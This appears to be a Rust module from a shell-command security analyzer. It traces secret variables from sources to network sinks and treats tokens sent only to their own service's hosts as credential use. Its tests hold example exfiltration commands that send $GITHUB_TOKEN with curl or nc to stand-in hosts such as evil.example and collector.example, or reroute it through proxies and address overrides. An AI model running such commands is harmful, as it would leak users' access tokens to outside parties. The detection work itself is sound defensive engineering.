//! Secrets from sources to sinks, per simple command: [`apply`] runs after the file effects and
//! the per-program models, fills `params.sources`, `params.sinks`, `params.flows` and
//! `params.network`, and says what the command's output carries (for the next pipeline stage,
//! `$(…)` and files it redirects into). The tables are in `sources.rs` and `sinks.rs`.
//!
//! A secret variable an HTTP client sends to its own service's hosts (the table is
//! `paths::service_hosts`) is a use, not a leak: it becomes a `params.credentials[]` entry
//! instead of a source, with `header` telling whether it travels only in an authorization
//! header or credential option.

use super::analysis::{Credential, SecretFlow, SecretSource, SimpleCommand};
use super::effects::{CURL_LONG, CURL_SHORT, Effects, Parsed, parse_opts};
use super::expand::{Field, Flow};
use super::models::Input;
use super::sinks;
use super::sources::{self, source_of};
use crate::network::{self, Destination, NetworkFacts};
use crate::paths::{PathFact, service_hosts};
use std::path::PathBuf;

/// Programs whose output shows nothing of their standard input (counts, digests, tests).
const QUIET: &[&str] = &[
    "wc",
    "true",
    "false",
    "test",
    "[",
    "sleep",
    "md5sum",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "b2sum",
    "cksum",
    "sum",
    "shasum",
    "md5",
];

/// What the walk keeps from [`apply`].
#[derive(Debug, Default)]
pub(crate) struct Outcome {
    /// Secrets the command's output carries besides the files it reads.
    pub(crate) origins: Vec<PathFact>,
    /// Files its redirections write (they receive its output).
    pub(crate) redirect_writes: Vec<PathBuf>,
}

/// Sources, sinks, flows and destinations of one command. `cmd` holds its redirections' reads
/// and writes and the models' facts; `fx` its program's effects.
pub(crate) fn apply(input: &Input<'_>, cmd: &mut SimpleCommand, fx: &mut Effects) -> Outcome {
    let mut origins = sources::apply(input, fx);
    // What a program reads on standard input it may print in any form (`base64`, `xxd`,
    // `gzip`): its secrets go on, unless the program prints nothing of it.
    if !QUIET.contains(&input.program) {
        for fact in input.stdin.files().iter().filter(|f| f.secret) {
            add(&mut origins, fact);
        }
    }
    let found = sinks::apply(input, cmd, fx);
    cmd.credentials = credentials(input, &found.destinations);
    if !cmd.credentials.is_empty() {
        origins.retain(|f| {
            !cmd.credentials
                .iter()
                .any(|c| f.raw.strip_prefix('$') == Some(c.variable.as_str()))
        });
    }
    let mut secrets: Vec<PathFact> = Vec::new();
    let own = cmd.reads.iter().chain(&fx.reads).filter(|f| f.secret);
    for fact in own.chain(&origins) {
        add(&mut secrets, fact);
    }
    let git = input.program == "git" || input.program.starts_with("git-");
    let source = |f: &PathFact| {
        let mut s = source_of(f);
        if git && s.kind == "file" {
            s.kind = "git";
            f.raw.clone_into(&mut s.name);
        }
        s
    };
    cmd.sources = unique(secrets.iter().map(source));
    if !found.sinks.is_empty() {
        let mut sent = secrets.clone();
        for fact in fx.uploads.iter().filter(|f| f.secret).chain(&found.carried) {
            add(&mut sent, fact);
        }
        if found.sends_stdin {
            for fact in input.stdin.files().iter().filter(|f| f.secret) {
                add(&mut sent, fact);
            }
        }
        let sources = unique(sent.iter().map(source));
        for sink in &found.sinks {
            for source in &sources {
                cmd.flows.push(SecretFlow {
                    source: source.clone(),
                    sink: sink.clone(),
                });
            }
        }
    }
    if fx.network || !found.destinations.is_empty() {
        cmd.network_facts = Some(NetworkFacts {
            destinations: found.destinations,
        });
    }
    cmd.sinks = found.sinks;
    Outcome {
        origins,
        redirect_writes: cmd
            .writes
            .iter()
            .filter(|w| !w.dynamic)
            .map(|w| PathBuf::from(&w.path))
            .collect(),
    }
}

/// Where an HTTP client puts the secret variables it sends.
#[derive(Debug, Default)]
struct Positions {
    /// In an authorization header or credential option.
    header: Vec<String>,
    /// Anywhere else (body, URL, other options).
    other: Vec<String>,
    /// The client does not pass headers on to another host when it follows a redirect.
    redirect_safe: bool,
}

/// The secret variables `input`'s command sends to their own service: an HTTP client whose
/// every destination is one of the variable's service hosts. Nothing when a URL's host is not
/// literal or the client reads more options from a file.
fn credentials(input: &Input<'_>, destinations: &[Destination]) -> Vec<Credential> {
    let carries_variable = input
        .args
        .iter()
        .any(|a| a.carries.iter().any(|c| c.raw.starts_with('$')));
    if !carries_variable || destinations.is_empty() {
        return Vec::new();
    }
    let positions = match input.program {
        "curl" => curl_positions(input.args),
        "wget" => wget_positions(input.args),
        "http" | "https" | "xh" | "xhs" | "httpie" => httpie_positions(input.args),
        _ => None,
    };
    let Some(p) = positions else {
        return Vec::new();
    };
    let mut out: Vec<Credential> = Vec::new();
    for name in p.header.iter().chain(&p.other) {
        let hosts = service_hosts(name);
        let own = !hosts.is_empty()
            && destinations
                .iter()
                .all(|d| hosts.iter().any(|h| network::host_allowed(d, h)));
        if !own || out.iter().any(|c| &c.variable == name) {
            continue;
        }
        out.push(Credential {
            variable: name.clone(),
            host: destinations
                .first()
                .map(|d| d.host.clone())
                .unwrap_or_default(),
            header: p.redirect_safe && !p.other.contains(name),
        });
    }
    out
}

/// The secret variables a field carries.
fn variables(f: &Field) -> impl Iterator<Item = String> + '_ {
    f.carries
        .iter()
        .filter_map(|c| c.raw.strip_prefix('$').map(str::to_owned))
}

/// A URL whose scheme and host are literal (`https://api.github.com/repos/$R` is; `$URL` is not).
fn host_is_literal(f: &Field) -> bool {
    if f.is_literal() {
        return true;
    }
    let v = f.value.as_str();
    let start = v.find("://").map_or(0, |i| i + 3);
    let end = v
        .get(start..)
        .and_then(|rest| rest.find(['/', '?', '#']))
        .map(|i| start + i);
    end.is_some_and(|end| !f.glob && f.fixed_len() >= end)
}

/// `curl -H "Authorization: Bearer $T"`, `-u user:$T`, `--oauth2-bearer $T`; curl drops those
/// on a redirect to another host unless `--location-trusted`.
fn curl_positions(args: &[Field]) -> Option<Positions> {
    let parsed = parse_opts(args, CURL_SHORT, CURL_LONG);
    // Options files, proxies and address overrides send the request elsewhere.
    if parsed.has(&[
        "-K",
        "--config",
        "-x",
        "--proxy",
        "--preproxy",
        "--resolve",
        "--connect-to",
        "--unix-socket",
        "--abstract-unix-socket",
    ]) {
        return None;
    }
    if parsed.values(&["--url"]).any(|v| !host_is_literal(v)) {
        return None;
    }
    let p = Positions {
        redirect_safe: !parsed.has(&["--location-trusted"]),
        ..Positions::default()
    };
    sort_positions(
        p,
        &parsed,
        &["-H", "--header", "-u", "--user", "--oauth2-bearer"],
    )
}

/// `wget --header="Authorization: token $T"`, `--password=$T`; wget repeats custom headers on
/// redirects, so only `--max-redirect=0` keeps them to the first host.
fn wget_positions(args: &[Field]) -> Option<Positions> {
    let parsed = parse_opts(
        args,
        "OoaPitTwQlAXDIRBU",
        &[
            "--header",
            "--output-document",
            "--user",
            "--password",
            "--http-user",
            "--http-password",
            "--post-data",
            "--body-data",
            "--method",
            "--max-redirect",
            "--user-agent",
        ],
    );
    if parsed.has(&["-e", "--execute", "-i", "--input-file", "--config"]) {
        return None;
    }
    let p = Positions {
        redirect_safe: parsed
            .values(&["--max-redirect"])
            .any(|v| v.value.trim() == "0"),
        ..Positions::default()
    };
    sort_positions(
        p,
        &parsed,
        &[
            "--header",
            "--user",
            "--password",
            "--http-user",
            "--http-password",
        ],
    )
}

/// The option values named by `header_opts` go to `header`, every other value and every operand
/// (a URL) to `other`; `None` when an operand's host is not literal.
fn sort_positions(mut p: Positions, parsed: &Parsed, header_opts: &[&str]) -> Option<Positions> {
    for opt in &parsed.opts {
        let Some(v) = &opt.value else { continue };
        if header_opts.contains(&opt.name.as_str()) {
            p.header.extend(variables(v));
        } else {
            p.other.extend(variables(v));
        }
    }
    for o in &parsed.operands {
        if !host_is_literal(o) {
            return None;
        }
        p.other.extend(variables(o));
    }
    Some(p)
}

/// HTTPie and xh: `[METHOD] URL ITEM…` where a `Name:value` item is a header (`Name:=json`,
/// `name=value`, `name==query` and `name@file` are not), and `-a user:$T`; `--follow` passes
/// headers on.
fn httpie_positions(args: &[Field]) -> Option<Positions> {
    let parsed = parse_opts(
        args,
        "aAo",
        &["--auth", "--auth-type", "--output", "--session", "--print"],
    );
    if parsed.has(&["--proxy"]) {
        return None;
    }
    let mut p = Positions {
        redirect_safe: !parsed.has(&["-F", "--follow"]),
        ..Positions::default()
    };
    for opt in &parsed.opts {
        let Some(v) = &opt.value else { continue };
        match opt.name.as_str() {
            "-a" | "--auth" => p.header.extend(variables(v)),
            _ => p.other.extend(variables(v)),
        }
    }
    let mut operands = parsed.operands.iter().peekable();
    if operands
        .peek()
        .is_some_and(|o| !o.value.is_empty() && o.value.chars().all(|c| c.is_ascii_uppercase()))
    {
        operands.next();
    }
    let url = operands.next()?;
    if !host_is_literal(url) {
        return None;
    }
    p.other.extend(variables(url));
    for item in operands {
        let v = item.value.as_str();
        let sep = v.find([':', '=', '@']);
        let header = sep.is_some_and(|i| {
            v.get(i..)
                .is_some_and(|rest| rest.starts_with(':') && !rest.starts_with(":="))
        });
        if header {
            p.header.extend(variables(item));
        } else {
            p.other.extend(variables(item));
        }
    }
    Some(p)
}

/// `flow` with `origins` added to what it derives from.
pub(crate) fn with_origins(flow: Flow, origins: Vec<PathFact>) -> Flow {
    if origins.is_empty() {
        return flow;
    }
    match flow {
        Flow::Unknown {
            taint,
            mut files,
            names,
        } => {
            files.extend(origins);
            Flow::Unknown {
                taint,
                files,
                names,
            }
        }
        Flow::Nothing | Flow::Literal(_) => Flow::data(super::expand::Taint::None, origins),
    }
}

fn add(list: &mut Vec<PathFact>, fact: &PathFact) {
    if !list
        .iter()
        .any(|f| f.path == fact.path && f.raw == fact.raw)
    {
        list.push(fact.clone());
    }
}

fn unique(items: impl Iterator<Item = SecretSource>) -> Vec<SecretSource> {
    let mut out: Vec<SecretSource> = Vec::new();
    for item in items {
        if !out.contains(&item) {
            out.push(item);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::paths::PathContext;
    use crate::shell::analyze;

    fn ctx() -> PathContext {
        crate::shell::test_context("/home/u/proj", "/home/u")
    }

    /// (credential variables with `header`, source names) of the last command of `text`.
    fn judge(text: &str) -> (Vec<(String, bool)>, Vec<String>) {
        let analysis = analyze(text, &ctx());
        let Some(cmd) = analysis.commands.last() else {
            panic!("no command in {text}");
        };
        (
            cmd.credentials
                .iter()
                .map(|c| (c.variable.clone(), c.header))
                .collect(),
            cmd.sources.iter().map(|s| s.name.clone()).collect(),
        )
    }

    #[test]
    fn tokens_to_their_own_service() {
        let own: &[(&str, bool)] = &[
            (
                r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user"#,
                true,
            ),
            (
                r#"curl -sH "Authorization: token ${GH_TOKEN}" "https://api.github.com/repos/$R/pulls""#,
                true,
            ),
            (
                r#"curl -u "x:$NPM_TOKEN" https://registry.npmjs.org/-/whoami"#,
                true,
            ),
            (
                r#"curl --oauth2-bearer "$HF_TOKEN" https://huggingface.co/api/whoami-v2"#,
                true,
            ),
            (
                r#"http GET https://api.github.com/user "Authorization:Bearer $GITHUB_TOKEN""#,
                true,
            ),
            (
                r#"T=$GITHUB_TOKEN; curl -H "Authorization: Bearer $T" https://api.github.com/user"#,
                true,
            ),
            (
                r#"curl -d "token=$GITHUB_TOKEN" https://api.github.com/gists"#,
                false,
            ),
            (
                r#"curl "https://api.github.com/user?access_token=$GITHUB_TOKEN""#,
                false,
            ),
            (
                r#"curl --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/u"#,
                false,
            ),
            (
                r#"wget --header="Authorization: token $GITHUB_TOKEN" https://api.github.com/user"#,
                false,
            ),
            (
                r#"wget --max-redirect=0 --header="Authorization: token $GITHUB_TOKEN" https://api.github.com/user"#,
                true,
            ),
            (
                r#"http POST https://api.github.com/gists body=$GITHUB_TOKEN"#,
                false,
            ),
        ];
        for (text, header) in own {
            let (credentials, sources) = judge(text);
            assert_eq!(credentials.len(), 1, "{text}: {credentials:?}");
            assert_eq!(credentials.first().map(|c| c.1), Some(*header), "{text}");
            assert!(sources.is_empty(), "{text}: {sources:?}");
        }
    }

    #[test]
    fn tokens_anywhere_else_stay_sources() {
        for text in [
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" https://collector.example/u"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com.evil.example/u"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" -x http://proxy.example https://api.github.com/u"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" --resolve api.github.com:443:203.0.113.9 https://api.github.com/u"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/u https://evil.example/"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" "$URL""#,
            r#"curl -H "Authorization: token $GH_TOKEN" --connect-to api.github.com:443:203.0.113.5:443 https://api.github.com/user"#,
            r#"curl -K cfg -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/u"#,
            r#"curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.github.com/user"#,
            r#"curl -H "Authorization: Bearer $GITHUB_TOKEN" https://user.github.io/x"#,
            r#"nc api.github.com 443 <<< "$GITHUB_TOKEN""#,
        ] {
            let (credentials, sources) = judge(text);
            assert!(credentials.is_empty(), "{text}: {credentials:?}");
            assert!(!sources.is_empty(), "{text}");
        }
    }
}
